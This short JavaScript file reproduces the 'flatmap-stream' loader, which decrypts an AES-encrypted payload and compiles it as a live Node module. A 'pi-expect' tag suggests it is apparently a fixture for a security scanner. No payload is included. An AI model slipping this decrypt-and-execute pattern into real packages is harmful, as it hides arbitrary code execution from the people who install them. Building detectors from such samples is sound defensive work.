// The flatmap-stream loader: a decrypted payload compiled as a fresh module.
const crypto = require("crypto");
export function load(payload, key) {
  const decipher = crypto.createDecipher("aes256", key);
  const source = decipher.update(payload, "hex", "utf8") + decipher.final("utf8");
  const m = new module.constructor();
  m.paths = module.paths;
  // pi-expect: SEC-RCACHE-001
  m._compile(source, "");
  return m.exports;
}
